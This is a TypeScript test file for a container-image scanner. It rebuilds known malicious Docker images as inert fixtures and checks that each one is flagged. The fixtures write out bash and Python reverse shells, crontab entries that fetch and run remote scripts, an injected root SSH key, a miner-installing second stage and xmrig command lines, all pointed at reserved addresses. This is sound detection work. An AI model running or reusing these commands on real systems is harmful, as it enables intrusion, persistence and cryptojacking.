import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { inspect } from '../src/inspection/inspect.ts';
import { inspectPlatforms } from '../src/inspection/inspect-platforms.ts';
import { makeReport, type Report } from '../src/report/report.ts';
import { buildIndex, type Stored } from './support/build-image.ts';
import { image, type Payload, variants } from './support/hostile-images.ts';
import { writeLayout } from './support/place-image.ts';
import { scan } from './support/scan.ts';
import { temporaryFolder } from './support/temporary-folder.ts';
import { WALLETS } from './support/wallets.ts';

// Inert re-creations of the images of docker123321 (2017 to 2018) and of F7 to F11, from public reports: hosts are reserved
// addresses, programs return at once, wallets and keys are random.
const KEY = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7inertinertinertinertinertinertinertinertinertinertinertinert x@y';

const bashShell = 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1';
const pythonShell =
  'python -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\"192.0.2.10\\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\\"/bin/sh\\",\\"-i\\"])\'';

const SECOND_STAGE = `#!/bin/bash
ps aux | grep -v grep | grep jaav
if [ $? -eq 0 ]; then exit; fi
rm -rf /var/tmp/java* /var/tmp/config.json
ps auxf | grep -v grep | grep "/tmp/" | awk '{print $2}' | xargs kill -9
ps auxf | grep -v grep | grep "stratum" | awk '{print $2}' | xargs kill -9
ps auxf | grep -v grep | grep "cryptonight" | awk '{print $2}' | xargs kill -9
crontab -r
echo "*/5 * * * * curl -s http://192.0.2.10:8220/logo3.jpg | bash -s" > /tmp/cron
crontab /tmp/cron
curl -o /var/tmp/jaav/config_1.json http://192.0.2.10:8220/config_1.json
curl -o /var/tmp/jaav/gcc http://192.0.2.10:8220/gcc
chmod 777 /var/tmp/jaav/gcc
proc=$(grep -c ^processor /proc/cpuinfo)
sysctl -w vm.nr_hugepages=$((proc * 3))
cd /var/tmp/jaav && nohup ./gcc -c config_1.json -t $proc >/dev/null &
`;

const PAYLOADS: readonly Payload[] = [
  {
    name: 'tomcat: a Python reverse shell in the crontab of the host',
    script: `echo "* * * * * root ${pythonShell}" >> /mnt/etc/crontab`,
    technique: /cron/i,
  },
  {
    name: 'tomcat11: a Bash reverse shell in the crontab of the host',
    script: `echo "* * * * * root ${bashShell}" >> /mnt/etc/crontab`,
    technique: /cron/i,
  },
  {
    name: 'tomcat22: a key for root of the host',
    script: `mkdir -p /mnt/root/.ssh; echo "${KEY}" >> /mnt/root/.ssh/authorized_keys; chmod 600 /mnt/root/.ssh/authorized_keys`,
    technique: /ssh key|authorized_keys/i,
  },
  {
    name: 'kk, mysql, data, mysql0: a picture that is a script, by cron (without the user column)',
    script: 'echo "* * * * * curl -s http://192.0.2.10:8220/logo3.jpg | bash -s" >> /mnt/etc/crontab',
    technique: /cron/i,
  },
  {
    name: 'mysql0: the same with the user column',
    script: 'echo "* * * * * root wget -q -O - http://198.51.100.4:8220/logo3.jpg | bash -s" >> /mnt/etc/crontab',
    technique: /cron/i,
  },
  {
    name: 'data: the form of busybox',
    script:
      'echo "* * * * * curl -s http://192.0.2.10:8220/logo3.jpg | sh" >> /mnt/etc/crontabs/root; touch /mnt/etc/crontabs/cron.update',
    technique: /cron/i,
  },
  {
    name: 'F2, the second stage that kk fetched',
    script: SECOND_STAGE.replace('#!/bin/bash\n', ''),
    technique: /cron|shell|rival|miner/i,
  },
  { name: 'cron: a Bash reverse shell', script: bashShell, technique: /reverse shell/i },
  { name: 'cronm: the same in the background', script: `nohup ${bashShell} &`, technique: /reverse shell/i },
  {
    name: 'cronnn: a script by wget',
    script: 'wget -q http://203.0.113.9:8080/a.sh -O- | sh',
    technique: /download|fetch/i,
  },
  { name: 't1: a script by curl', script: 'curl -fsSL http://203.0.113.9/t1.sh | bash', technique: /download|fetch/i },
  {
    name: 't2: a script put down first',
    script: 'curl -s -o /tmp/t.sh http://203.0.113.9:8000/t.sh; chmod +x /tmp/t.sh; /tmp/t.sh',
    technique: /download|fetch/i,
  },
  {
    name: 'mysql2: a miner as the image started it',
    script: `/usr/sbin/minerd -a cryptonight -o stratum+tcp://pool.example:3333 -u ${WALLETS.monero} -p x`,
    technique: /miner|mining/i,
  },
  { name: 'mysql3: a Python reverse shell', script: pythonShell.replaceAll('\\"', '"'), technique: /reverse shell/i },
  {
    name: 'F9: fetched at run time and renamed',
    script: `cd /tmp && wget -q https://github.example/xmrig/releases/xmrig-6.21.0-linux-x64.tar.gz && tar xf xmrig-6.21.0-linux-x64.tar.gz && N=app$RANDOM && mv xmrig-6.21.0/xmrig ./$N && ./$N -a rx/0 -o 203.0.113.77:1123 -u ${WALLETS.zephyr} -t $(nproc --all)`,
    technique: /miner|mining/i,
  },
];

for (const payload of PAYLOADS) {
  for (const [variant, build] of Object.entries(variants)) {
    test(`${payload.name}; ${variant}`, async (context) => {
      fails(await reportOf(context, build(payload)), payload.technique);
    });
  }
}

test('F7: a miner with its flags, under the name of a web server', async (context) => {
  const entrypoint = [
    './xmrig',
    '--algo=cryptonight',
    '--url=stratum+tcp://pool.example:5555',
    `--user=${WALLETS.monero}`,
    '--pass=x',
    '--max-cpu-usage=100',
  ];
  const { MINER } = await import('./support/hostile-programs.ts');
  const built = image({ Entrypoint: entrypoint, WorkingDir: '/opt' }, { 'opt/xmrig': { body: MINER, mode: 0o755 } });
  fails(await reportOf(context, built, 'ohldm/nginx:latest'), /miner|mining/i);
});

test('F8: a renamed miner, its config and a loop around it', async (context) => {
  const { MINER } = await import('./support/hostile-programs.ts');
  const config = `{
  // XMRig 2.x
  "algo": "cryptonight", "av": 0, "background": false, "donate-level": 1, "max-cpu-usage": 95, "print-time": 60, "retries": 5,
  "pools": [ { "url": "pool.example:3333", "user": "${WALLETS.monero}", "pass": "x", "keepalive": true, "nicehash": false } ]
}`;
  const files = {
    'tmp/var/config.json': config,
    'tmp/var/nodjs': { body: MINER, mode: 0o755 },
    'tmp/var/run.sh': {
      body: '#!/bin/bash\ncd /tmp/var\nwhile true; do ./nodjs -c config.json; sleep 5; done\n',
      mode: 0o755,
    },
  };
  fails(await reportOf(context, image({ Cmd: ['/tmp/var/run.sh'] }, files), 'l0s3r/m3n:latest'), /miner|mining/i);
  fails(await reportOf(context, image({ Cmd: ['/bin/sh'] }, files), 'l0s3r/m3n:latest'), /miner|mining/i);
});

test('F10: pools as xmr-stak has them', async (context) => {
  const pools = `"pool_list" : [ {"pool_address" : "pool.example:3333", "wallet_address" : "${WALLETS.monero}", "rig_id" : "", "pool_password" : "x", "use_nicehash" : false, "use_tls" : false, "tls_fingerprint" : "", "pool_weight" : 1 }, ],\n"currency" : "monero7",\n`;
  const { MINER } = await import('./support/hostile-programs.ts');
  const files = { 'root/.x/pools.txt': pools, 'root/.x/bash': { body: MINER, mode: 0o755 } };
  fails(await reportOf(context, image({ Cmd: ['/root/.x/bash'] }, files), 'xoolu/ubuntu:1'), /miner|mining/i);
});

test('F11: a miner in the place of systemd, and one behind a script', async (context) => {
  const { MINER } = await import('./support/hostile-programs.ts');
  const systemd = { 'shipyard-deploy/systemd': { body: MINER, mode: 0o755 } };
  const arguments_ = ['-o', 'stratum+tcp://pool.example:45700', '-u', WALLETS.monero, '-p', 'x'];
  const first = image({ Entrypoint: ['/shipyard-deploy/systemd', ...arguments_] }, systemd);
  fails(await reportOf(context, first, 'dockersdev/shipyard:0.12'), /miner|mining/i);
  const dao = {
    'opt/dao.py': `import subprocess\nsubprocess.Popen(["/opt/.x/xmrig", "-o", "pool.example:3333", "-u", "${WALLETS.monero}", "--donate-level=1"])\n`,
    'opt/.x/xmrig': { body: MINER, mode: 0o755 },
  };
  fails(await reportOf(context, image({ Cmd: ['python3', '/opt/dao.py'] }, dao), 'someone/dao:1'), /miner|mining/i);
});

test('in one platform only: the others are clean, and the story says so', async (context) => {
  const script = 'wget -q http://203.0.113.9:8080/a.sh -O- | sh';
  const hostile = image({ Cmd: ['/bin/sh', '-c', script] }, {}, 'linux/arm64');
  const clean = image({ Cmd: ['/bin/sh'] }, {}, 'linux/amd64');
  const folder = join(temporaryFolder(context), 'image');
  mkdirSync(folder);
  writeLayout(folder, [{ image: buildIndex([clean, hostile]), tag: 'latest' }]);
  const options = { cache: false, advisories: false, environment: {} } as const;
  const inspection = await inspectPlatforms(`oci:${folder}`, options);
  const report = makeReport(inspection, { name: 'tidewaiter', version: 'test' });
  assert.deepEqual(report.platforms?.map(({ platform, decision }) => `${platform} ${decision === 'fail'}`).sort(), [
    'linux/amd64 false',
    'linux/arm64 true',
  ]);
  fails(report, /download/i);
  const [malicious] = report.findings.filter((finding) => finding.class === 'malicious');
  assert.deepEqual(malicious?.platforms, ['linux/arm64']);
  assert.match(malicious?.story ?? '', /linux\/arm64 alone/);
  const alone = await inspect(`oci:${folder}`, { ...options, platform: 'linux/amd64' });
  assert.notEqual(alone.verdict.decision, 'fail');
});

/** The image fails, and a malicious finding's story names the technique. */
function fails({ findings, verdict, problems }: Report, technique: RegExp): void {
  const malicious = findings.filter((finding) => finding.class === 'malicious');
  const seen = findings.map(({ class: kind, title, story }) => `${kind ?? ''} ${title} ${story ?? ''}`).join('\n');
  assert.deepEqual(
    problems.filter(({ code }) => code === 'plugin-failed'),
    [],
  );
  assert.equal(verdict.decision, 'fail', seen);
  assert.ok(
    malicious.some(({ story = '' }) => technique.test(story)),
    seen,
  );
  for (const { story = '' } of malicious) assert.ok(story.split(/\.\s/).length >= 2, story);
}

async function reportOf(context: TestContext, built: Stored, name = 'docker123321/mysql:latest'): Promise<Report> {
  const folder = join(temporaryFolder(context), 'image');
  mkdirSync(folder);
  writeLayout(folder, [{ image: built, reference: `docker.io/${name}`, tag: name.split(':').at(-1) ?? 'latest' }]);
  const { report } = await scan(`oci:${folder}`, { platform: 'linux/amd64' });
  return report;
}
